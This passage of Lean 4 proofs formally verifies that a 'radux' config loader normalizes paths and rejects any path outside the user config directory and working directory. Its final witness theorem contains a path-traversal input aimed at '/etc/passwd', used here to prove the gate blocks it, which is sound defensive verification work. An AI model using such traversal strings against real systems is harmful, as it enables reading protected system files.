    ∀ (acc : List Char), '/' ∉ acc → ∀ d ∈ splitCompsAux acc cs, '/' ∉ d := by
  induction cs with
  | nil =>
    intro acc hacc d hd
    simp only [splitCompsAux, List.mem_singleton] at hd
    subst hd
    simpa using hacc
  | cons c rest ih =>
    intro acc hacc d hd
    simp only [splitCompsAux] at hd
    cases hc : c == '/' with
    | true =>
      rw [hc] at hd
      simp only [List.mem_cons] at hd
      cases hd with
      | inl h => subst h; simpa using hacc
      | inr h => exact ih [] (by simp) d h
    | false =>
      rw [hc] at hd
      refine ih (c :: acc) ?_ d hd
      intro hmem
      simp only [List.mem_cons] at hmem
      cases hmem with
      | inl h => exact absurd (beq_iff_eq.2 h.symm) (by simp [hc])
      | inr h => exact hacc h

theorem pathComps_good (cs : List Char) : ∀ d ∈ pathComps cs, goodComp d := by
  intro d hd
  unfold pathComps at hd
  rw [List.mem_filter] at hd
  obtain ⟨hmem, hne⟩ := hd
  constructor
  · simpa using hne
  · exact splitCompsAux_no_slash cs [] (by simp) d hmem

theorem canonComps_clean_aux (ds : List (List Char)) :
    ∀ acc, (∀ d ∈ ds, goodComp d) → (∀ d ∈ acc, cleanComp d) →
      ∀ d ∈ ds.foldl canonStep acc, cleanComp d := by
  induction ds with
  | nil => intro acc _ hacc d hd; exact hacc d hd
  | cons c cs ih =>
    intro acc hds hacc d hd
    simp only [List.foldl_cons] at hd
    refine ih (canonStep acc c) (fun x hx => hds x (List.mem_cons_of_mem _ hx)) ?_ d hd
    intro x hx
    unfold canonStep at hx
    split at hx
    · exact hacc x hx
    · split at hx
      · exact hacc x (List.dropLast_subset _ hx)
      · rename_i hdot hddot
        rw [List.mem_append] at hx
        cases hx with
        | inl h => exact hacc x h
        | inr h =>
          rw [List.mem_singleton] at h
          subst h
          exact ⟨hds x (List.mem_cons_self _ _), hdot, hddot⟩

theorem canonComps_clean (ds : List (List Char)) (h : ∀ d ∈ ds, goodComp d) :
    ∀ d ∈ canonComps ds, cleanComp d :=
  canonComps_clean_aux ds [] h (by simp)

theorem splitCompsAux_append (d : List Char) (hnos : '/' ∉ d) :
    ∀ (acc rest : List Char),
      splitCompsAux acc (d ++ rest) = splitCompsAux (d.reverse ++ acc) rest := by
  induction d with
  | nil => intro acc rest; simp
  | cons c cs ih =>
    intro acc rest
    simp only [List.cons_append, splitCompsAux]
    have hc : (c == '/') = false := by
      apply beq_eq_false_iff_ne.2
      intro h
      subst h
      exact hnos (List.mem_cons_self _ _)
    rw [hc]
    show splitCompsAux (c :: acc) (cs ++ rest) = _
    rw [ih (fun h => hnos (List.mem_cons_of_mem _ h)) (c :: acc) rest]
    simp

theorem splitComps_joinComps (xs : List (List Char)) (hg : ∀ d ∈ xs, goodComp d) :
    (splitCompsAux [] (joinComps xs)).filter (fun d => !(d.isEmpty)) = xs := by
  induction xs with
  | nil => rfl
  | cons d dtail ih =>
    have hd := hg d (List.mem_cons_self _ _)
    have hdne : (!(d.isEmpty)) = true := by
      cases hdd : d with
      | nil => exact absurd hdd hd.1
      | cons a as => rfl
    cases dtail with
    | nil =>
      have h1 : joinComps [d] = d ++ [] := by simp [joinComps]
      rw [h1, splitCompsAux_append d hd.2 [] []]
      simp only [splitCompsAux, List.append_nil, List.reverse_reverse]
      rw [List.filter_cons]
      rw [hdne]
      rfl
    | cons d2 dt2 =>
      have h1 : joinComps (d :: d2 :: dt2) = d ++ ('/' :: joinComps (d2 :: dt2)) := rfl
      rw [h1, splitCompsAux_append d hd.2 [] _]
      simp only [splitCompsAux, List.append_nil, beq_self_eq_true, List.reverse_reverse]
      rw [List.filter_cons]
      rw [hdne]
      simp only [if_true]
      exact congrArg (List.cons d) (ih (fun x hx => hg x (List.mem_cons_of_mem _ hx)))

theorem pathComps_renderAbs (ds : List (List Char)) (h : ∀ d ∈ ds, goodComp d) :
    pathComps (renderAbs ds) = ds := by
  unfold pathComps renderAbs
  simp only [splitCompsAux, beq_self_eq_true, List.reverse_nil]
  rw [List.filter_cons]
  simp only [List.isEmpty_nil, Bool.not_true]
  rw [if_neg (by simp)]
  exact splitComps_joinComps ds h

theorem canonComps_clean_id (ds : List (List Char)) (h : ∀ d ∈ ds, cleanComp d) :
    canonComps ds = ds := by
  unfold canonComps
  have haux : ∀ (xs : List (List Char)) (acc : List (List Char)),
      (∀ d ∈ xs, cleanComp d) → xs.foldl canonStep acc = acc ++ xs := by
    intro xs
    induction xs with
    | nil => intro acc _; simp
    | cons d dt ih =>
      intro acc hx
      have hd := hx d (List.mem_cons_self _ _)
      simp only [List.foldl_cons]
      have hstep : canonStep acc d = acc ++ [d] := by
        unfold canonStep
        rw [if_neg hd.2.1, if_neg hd.2.2]
      rw [hstep, ih (acc ++ [d]) (fun x h2 => hx x (List.mem_cons_of_mem _ h2))]
      simp
  simpa using haux ds [] h

theorem normalizeChars_idem (cwd cs : List Char) :
    normalizeChars cwd (normalizeChars cwd cs) = normalizeChars cwd cs := by
  unfold normalizeChars
  have hclean := canonComps_clean (absCompsOf cwd cs)
    (fun d hd => by
      unfold absCompsOf at hd
      cases h : (cs.head? == some '/') with
      | true => rw [h] at hd; exact pathComps_good cs d hd
      | false =>
        rw [h] at hd
        rw [List.mem_append] at hd
        cases hd with
        | inl h2 => exact pathComps_good cwd d h2
        | inr h2 => exact pathComps_good cs d h2)
  have hgood : ∀ d ∈ canonComps (absCompsOf cwd cs), goodComp d :=
    fun d hd => (hclean d hd).1
  have h1 : absCompsOf cwd (renderAbs (canonComps (absCompsOf cwd cs)))
      = canonComps (absCompsOf cwd cs) := by
    unfold absCompsOf
    simp only [renderAbs, List.head?, beq_self_eq_true]
    exact pathComps_renderAbs _ hgood
  rw [h1, canonComps_clean_id _ hclean]

theorem joinComps_ne_nil (ds : List (List Char)) (hg : ∀ d ∈ ds, goodComp d)
    (hne : ds ≠ []) : joinComps ds ≠ [] := by
  cases ds with
  | nil => exact absurd rfl hne
  | cons d dt =>
    cases dt with
    | nil =>
      simp only [joinComps]
      exact (hg d (List.mem_cons_self _ _)).1
    | cons d2 dt2 =>
      simp only [joinComps]
      intro hcon
      rcases List.append_eq_nil.1 hcon with ⟨h1, _⟩
      exact (hg d (List.mem_cons_self _ _)).1 h1

theorem joinComps_getLast_ne_slash (ds : List (List Char)) :
    (∀ d ∈ ds, goodComp d) → ds ≠ [] →
      ∃ c, (joinComps ds).getLast? = some c ∧ c ≠ '/' := by
  induction ds with
  | nil => intro _ h; exact absurd rfl h
  | cons d dt ih =>
    intro hg _
    cases dt with
    | nil =>
      simp only [joinComps]
      have hd := hg d (List.mem_cons_self _ _)
      cases hlast : d.getLast? with
      | none =>
        exact absurd (List.getLast?_eq_none_iff.1 hlast) hd.1
      | some c =>
        refine ⟨c, rfl, ?_⟩
        intro hcon
        subst hcon
        exact hd.2 (List.mem_of_mem_getLast? hlast)
    | cons d2 dt2 =>
      simp only [joinComps]
      have hjoin_ne : joinComps (d2 :: dt2) ≠ [] :=
        joinComps_ne_nil _ (fun x hx => hg x (List.mem_cons_of_mem _ hx)) (by simp)
      obtain ⟨c, hc, hcne⟩ := ih (fun x hx => hg x (List.mem_cons_of_mem _ hx)) (by simp)
      refine ⟨c, ?_, hcne⟩
      rw [List.getLast?_append_of_ne_nil d (by simp)]
      rw [show ('/' :: joinComps (d2 :: dt2)) = ['/'] ++ joinComps (d2 :: dt2) from rfl]
      rw [List.getLast?_append_of_ne_nil _ hjoin_ne]
      exact hc

theorem lastChar_renderAbs (ds : List (List Char)) (hg : ∀ d ∈ ds, goodComp d)
    (hne : ds ≠ []) : lastCharIsSlash (renderAbs ds) = false := by
  unfold lastCharIsSlash renderAbs
  obtain ⟨c, hc, hcne⟩ := joinComps_getLast_ne_slash ds hg hne
  rw [show ('/' :: joinComps ds) = ['/'] ++ joinComps ds from rfl]
  rw [List.getLast?_append_of_ne_nil _ (joinComps_ne_nil ds hg hne), hc]
  simp [hcne]

theorem joinComps_append_slash (ds : List (List Char)) (hne : ds ≠ []) :
    joinComps ds ++ ['/'] = rendT ds := by
  induction ds with
  | nil => exact absurd rfl hne
  | cons d dt ih =>
    cases dt with
    | nil => simp [joinComps, rendT]
    | cons d2 dt2 =>
      simp only [joinComps, rendT]
      rw [List.append_assoc, List.cons_append]
      rw [ih (by simp)]
      rfl

theorem joinComps_prefix_rendT (ds : List (List Char)) :
    joinComps ds <+: rendT ds := by
  cases ds with
  | nil => exact List.nil_prefix
  | cons d dt =>
    rw [← joinComps_append_slash (d :: dt) (by simp)]
    exact List.prefix_append _ _

theorem word_boundary (xs : List Char) : ∀ (ys u v : List Char), '/' ∉ xs → '/' ∉ ys →
    (xs ++ '/' :: u) <+: (ys ++ '/' :: v) → xs = ys ∧ u <+: v := by
  induction xs with
  | nil =>
    intro ys u v _ hys hpre
    cases ys with
    | nil =>
      simp only [List.nil_append] at hpre ⊢
      exact ⟨trivial, (List.cons_prefix_cons.1 hpre).2⟩
    | cons b ys2 =>
      simp only [List.nil_append, List.cons_append] at hpre
      obtain ⟨hb, _⟩ := List.cons_prefix_cons.1 hpre
      exact absurd (hb ▸ List.mem_cons_self b ys2) hys
  | cons a xs2 ih =>
    intro ys u v hxs hys hpre
    cases ys with
    | nil =>
      simp only [List.cons_append, List.nil_append] at hpre
      obtain ⟨ha, _⟩ := List.cons_prefix_cons.1 hpre
      exact absurd (ha ▸ List.mem_cons_self a xs2) hxs
    | cons b ys2 =>
      simp only [List.cons_append] at hpre
      obtain ⟨hab, hrest⟩ := List.cons_prefix_cons.1 hpre
      obtain ⟨h1, h2⟩ := ih ys2 u v (fun h => hxs (List.mem_cons_of_mem _ h))
        (fun h => hys (List.mem_cons_of_mem _ h)) hrest
      exact ⟨by rw [hab, h1], h2⟩

theorem rendT_prefix_comps (D : List (List Char)) : ∀ (P : List (List Char)),
    (∀ d ∈ D, goodComp d) → (∀ d ∈ P, goodComp d) →
    rendT D <+: rendT P → D <+: P := by
  induction D with
  | nil => intro P _ _ _; exact List.nil_prefix
  | cons d D2 ih =>
    intro P hgD hgP hpre
    cases P with
    | nil =>
      simp only [rendT] at hpre
      have h0 := List.prefix_nil.1 hpre
      rcases List.append_eq_nil.1 h0 with ⟨h1, _⟩
      exact absurd h1 (hgD d (List.mem_cons_self _ _)).1
    | cons p P2 =>
      simp only [rendT] at hpre
      obtain ⟨heq, hrest⟩ := word_boundary d p (rendT D2) (rendT P2)
        (hgD d (List.mem_cons_self _ _)).2 (hgP p (List.mem_cons_self _ _)).2 hpre
      have hsub := ih P2 (fun x hx => hgD x (List.mem_cons_of_mem _ hx))
        (fun x hx => hgP x (List.mem_cons_of_mem _ hx)) hrest
      exact List.cons_prefix_cons.2 ⟨heq, hsub⟩

theorem absCompsOf_good (cwd cs : List Char) : ∀ d ∈ absCompsOf cwd cs, goodComp d := by
  intro d hd
  unfold absCompsOf at hd
  cases h : (cs.head? == some '/') with
  | true =>
    rw [h] at hd
    exact pathComps_good cs d hd
  | false =>
    rw [h] at hd
    rw [List.mem_append] at hd
    cases hd with
    | inl h2 => exact pathComps_good cwd d h2
    | inr h2 => exact pathComps_good cs d h2

theorem canon_abs_good (cwd cs : List Char) :
    ∀ d ∈ canonComps (absCompsOf cwd cs), goodComp d :=
  fun d hd => (canonComps_clean (absCompsOf cwd cs) (absCompsOf_good cwd cs) d hd).1

theorem dirString_eq_rendT (ds : List (List Char)) (hg : ∀ d ∈ ds, goodComp d) :
    (match (!((renderAbs ds).isEmpty)) && !(lastCharIsSlash (renderAbs ds)) with
     | true => renderAbs ds ++ ['/']
     | false => renderAbs ds) = '/' :: rendT ds := by
  cases ds with
  | nil =>
    have h1 : lastCharIsSlash (renderAbs []) = true := rfl
    rw [h1]
    rfl
  | cons d dt =>
    have h1 : lastCharIsSlash (renderAbs (d :: dt)) = false :=
      lastChar_renderAbs _ hg (by simp)
    rw [h1]
    have h2 : (!((renderAbs (d :: dt)).isEmpty)) = true := rfl
    rw [h2]
    simp only [Bool.not_false, Bool.and_true]
    show renderAbs (d :: dt) ++ ['/'] = '/' :: rendT (d :: dt)
    unfold renderAbs
    rw [List.cons_append, joinComps_append_slash _ (by simp)]

theorem pathString_prefix_rendT (ds : List (List Char)) (hg : ∀ d ∈ ds, goodComp d)
    (isDir : Bool) :
    (match (!((renderAbs ds).isEmpty)) && !(lastCharIsSlash (renderAbs ds)) && isDir with
     | true => renderAbs ds ++ ['/']
     | false => renderAbs ds) <+: '/' :: rendT ds := by
  cases hb : (!((renderAbs ds).isEmpty)) && !(lastCharIsSlash (renderAbs ds)) && isDir with
  | false =>
    simp only []
    unfold renderAbs
    exact List.cons_prefix_cons.2 ⟨rfl, joinComps_prefix_rendT ds⟩
  | true =>
    simp only []
    cases ds with
    | nil =>
      exfalso
      have h1 : lastCharIsSlash (renderAbs []) = true := rfl
      rw [h1] at hb
      simp at hb
    | cons d dt =>
      have : renderAbs (d :: dt) ++ ['/'] = '/' :: rendT (d :: dt) := by
        unfold renderAbs
        rw [List.cons_append, joinComps_append_slash _ (by simp)]
      rw [this]

theorem isInDirectory_insideRoot (cwd : List Char) (isDir : Bool)
    (path root : List Char)
    (h : isInDirectory cwd isDir (normalizeChars cwd path) root = true) :
    insideRootP cwd root path := by
  unfold isInDirectory at h
  dsimp only [] at h
  rw [normalizeChars_idem] at h
  unfold normalizeChars at h
  have hD := canon_abs_good cwd root
  have hP := canon_abs_good cwd path
  rw [dirString_eq_rendT _ hD] at h
  have hpre1 : ('/' :: rendT (canonComps (absCompsOf cwd root)))
      <+: (match (!((renderAbs (canonComps (absCompsOf cwd path))).isEmpty)) &&
            !(lastCharIsSlash (renderAbs (canonComps (absCompsOf cwd path)))) && isDir with
         | true => renderAbs (canonComps (absCompsOf cwd path)) ++ ['/']
         | false => renderAbs (canonComps (absCompsOf cwd path))) :=
    List.isPrefixOf_iff_prefix.1 h
  have hpre2 := hpre1.trans (pathString_prefix_rendT _ hP isDir)
  have hpre3 : rendT (canonComps (absCompsOf cwd root))
      <+: rendT (canonComps (absCompsOf cwd path)) :=
    (List.cons_prefix_cons.1 hpre2).2
  exact rendT_prefix_comps _ _ hD hP hpre3

/-- C5: for every path whose weak canonicalization (resolving `.` and `..`
lexically over a symlink-free filesystem, resolving relative paths against
the current working directory) lies outside both allow-listed roots — the
per-user config directory `home/.config/radux` and the current working
directory — `is_config_path_allowed` returns false, and `from_yaml` with
that verdict returns a configuration with an empty items list.  This covers
paths using `..` segments to escape a root. -/
theorem c5_path_gate_rejects_outside (home cwd : List Char) (pathIsDir : Bool) (path : List Char)
    (h1 : ¬ insideRootP cwd (home ++ "/.config/radux".data) path)
    (h2 : ¬ insideRootP cwd cwd path) :
    isConfigPathAllowed home cwd pathIsDir path = false ∧
    (∀ (fe fs : Bool) (n : Nat) (doc : Option RDoc),
      (fromYamlModel (isConfigPathAllowed home cwd pathIsDir path) fe fs n doc).items
        = []) := by
  cases hall : isConfigPathAllowed home cwd pathIsDir path with
  | false =>
    refine ⟨rfl, ?_⟩
    intro fe fs n doc
    rfl
  | true =>
    exfalso
    unfold isConfigPathAllowed at hall
    dsimp only [] at hall
    rw [Bool.or_eq_true] at hall
    cases hall with
    | inl h => exact h1 (isInDirectory_insideRoot cwd pathIsDir path _ h)
    | inr h => exact h2 (isInDirectory_insideRoot cwd pathIsDir path _ h)

theorem c5_path_gate_rejects_outside_witness :
    (¬ insideRootP "/work".data ("/home/u".data ++ "/.config/radux".data)
        "/home/u/.config/radux/../../../etc/passwd".data) ∧
    (¬ insideRootP "/work".data "/work".data
        "/home/u/.config/radux/../../../etc/passwd".data) ∧
    isConfigPathAllowed "/home/u".data "/work".data false
        "/home/u/.config/radux/../../../etc/passwd".data = false ∧
    (fromYamlModel (isConfigPathAllowed "/home/u".data "/work".data false
        "/home/u/.config/radux/../../../etc/passwd".data) true false 0 none).items
      = [] := by
  refine ⟨by unfold insideRootP; decide, by unfold insideRootP; decide, ?_, ?_⟩
  · exact (c5_path_gate_rejects_outside _ _ _ _ (by unfold insideRootP; decide)
      (by unfold insideRootP; decide)).1
  · exact (c5_path_gate_rejects_outside _ _ _ _ (by unfold insideRootP; decide)
      (by unfold insideRootP; decide)).2 true false 0 none

end Radux
